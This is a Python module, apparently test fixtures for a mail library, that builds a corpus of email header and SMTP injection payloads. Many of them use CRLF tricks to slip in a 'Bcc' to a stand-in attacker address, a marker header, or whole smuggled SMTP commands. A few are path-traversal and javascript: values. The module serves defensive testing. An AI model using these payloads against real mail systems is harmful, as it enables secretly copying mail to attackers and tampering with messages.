"""What attackers write where a name, a subject or a file's name is asked for.

Whatever is smuggled in speaks of :data:`STRANGER` or of a field ``X-Smuggled``, so that it can be told from what the
caller wrote.
"""

from __future__ import annotations

STRANGER = "stranger@evil.example"
FIELD = "X-Smuggled"

#: What some reader somewhere takes for the end of a line or of the text.
BREAKS = {
    "CR": "\r",
    "LF": "\n",
    "CRLF": "\r\n",
    "LF CR": "\n\r",
    "a fold": "\r\n ",
    "a fold by LF": "\n\t",
    "NUL": "\0",
    "VT": "\x0b",
    "FF": "\x0c",
    "FS": "\x1c",
    "RS": "\x1e",
    "ESC": "\x1b",
    "NEL": "\x85",
    "U+2028": "\u2028",
    "U+2029": "\u2029",
    # Their lower bytes are CR and LF, which is all that is left where text is cut to bytes.
    "wide CRLF": "\u560d\u560a",
    "half a surrogate pair": "\udc0a",
    "an undecoded byte": "\udc85",
}

_AFTER_A_BREAK = {
    name: f"{text}Bcc: {STRANGER}{text}{FIELD}: 1{text}{text}Smuggled"
    for name, text in BREAKS.items()
}

_ENCODED_WORDS = [
    f"=?utf-8?q?a=0D=0ABcc:_{STRANGER}?=",
    "=?utf-8?b?YQ0KQmNjOiBzdHJhbmdlckBldmlsLmV4YW1wbGU=?=",
    f"=?us-ascii?Q?=0ABcc:_{STRANGER}?= more",
    f"=?utf-8?q?a=0D?= =?utf-8?q?=0ABcc:_{STRANGER}?=",
    f"a =?utf-8*en?q?=0D=0A{FIELD}:_1?= z",
    "=?utf-7?q?+AA0ACg-Bcc:?=",
    "=?utf-16?b?DQAKAA==?=",
    "=?utf-8?q?=00?=",
    "=?utf-8?q?=E2=80=A8Bcc:?=",
    "=?utf-8?q?=C2=85Bcc:?=",
    f"=?utf-8?q?=22_=3C{STRANGER}=3E=2C?=",
    "=?utf-8?q?unended",
    "=?no-such?q?=0D=0A?=",
    "=?utf-8?q?=3D=3Futf-8=3Fq=3F=3D0D=3D0A=3F=3D?=",
]

_PARAMETERS = [
    "%0D%0ABcc:%20stranger@evil.example",
    "a\"; filename*=utf-8''%0D%0ABcc%3A.exe",
    "a; name*=utf-8''%0D%0AX-Smuggled%3A%201",
    "a; name*0*=utf-8''%0D; name*1*=%0AX-Smuggled%3A%201",
    "utf-8''%0D%0AX-Smuggled%3A%201",
    'a"; name="evil.exe',
    '"',
    "\\",
    '\\"; x="',
    "a;b=c",
    "; boundary=x",
    "../../etc/passwd",
]

_ADDRESSES = [
    f"<{STRANGER}>",
    f">, <{STRANGER}>",
    f",{STRANGER}",
    f";{STRANGER}",
    f" {STRANGER}",
    f"@evil.example,a@b.example:{STRANGER}",
    f'" <{STRANGER}>, "',
    f"({STRANGER})",
    f"(<{STRANGER}>",
    f"Everyone: {STRANGER};",
    "undisclosed-recipients:;",
    "<>",
    ">",
    "<",
    "@",
    "@evil.example",
    "@[127.0.0.1]",
]

_COMMANDS = [
    "> SIZE=1",
    f"> ORCPT=rfc822;{STRANGER}",
    f">\r\nRCPT TO:<{STRANGER}>\r\nDATA",
    f"=1 RCPT TO:<{STRANGER}>",
    " AUTH=<>",
    "=<>",
    ".",
    "..",
    "\r\n.\r\n",
    "\n.\n",
    "\r.\r",
    "\n.\r\n",
    "\r\n.\n",
    ".\r\n",
    *(
        f"x{dot}MAIL FROM:<{STRANGER}>\r\nRCPT TO:<{STRANGER}>\r\nDATA\r\n{FIELD}: 1\r\n\r\n{dot}QUIT\r\n"
        for dot in ("\r\n.\r\n", "\n.\n", "\n.\r\n", "\r\n.\n", "\r.\r")
    ),
]

_HEADER_NAMES = [
    ":",
    f": {STRANGER}",
    " Bcc",
    "Bcc ",
    "\tBcc",
    ": 1",
    "\u00a0",
    "ü",
    "(comment)",
    "",
]

_MEDIA_TYPES = [
    "text/html; charset=utf-7",
    "message/rfc822",
    'multipart/mixed; boundary="x"',
    "multipart/related",
    "text/plain, text/html",
    "text/plain (comment)",
    "text/plain; name*=utf-8''%0D%0AX-Smuggled%3A%201",
    "text/plain; name==?utf-8?q?=0D=0AX-Smuggled:_1?=",
    'text/plain; name="=?utf-8?q?=0D=0AX-Smuggled:_1?="',
    'text/plain; name="a\\',
]

_LINKS = [
    f"https://a.example/>, <mailto:{STRANGER}>",
    f"https://a.example/,<mailto:{STRANGER}>",
    f"https://a.example/ <mailto:{STRANGER}>",
    "javascript:alert(1)",
    f"mailto:a@b.example?bcc={STRANGER}",
    "https://a.example/\u202e",
]


def _boundaries(letter_id: str) -> list[str]:
    """What ends a part where its boundary is known, and begins another."""
    return [
        f"\r\n--=_{subtype}_{letter_id}{end}Content-Type: text/html\r\n{FIELD}: 1\r\n\r\nSmuggled"
        for subtype in ("mixed", "alternative", "related")
        for end in ("\r\n", "--\r\n", " \r\n", "\n")
    ]


_KINDS = (_ENCODED_WORDS, _PARAMETERS, _ADDRESSES, _COMMANDS, _HEADER_NAMES, _MEDIA_TYPES, _LINKS)


def corpus(letter_id: str) -> dict[str, str]:
    """Every payload by a name.

    :param letter_id: of the letter where it is known beforehand; boundaries are made of it.
    """
    plain = [payload for kind in _KINDS for payload in kind] + _boundaries(letter_id)
    alone = {f"{name} alone": text for name, text in BREAKS.items()}
    return _AFTER_A_BREAK | alone | {repr(payload): payload for payload in plain}


def excerpt() -> list[str]:
    """Every break and some payloads of each kind, for what cannot be tried so often."""
    return [*_AFTER_A_BREAK.values(), *(payload for kind in _KINDS for payload in kind[::4])]
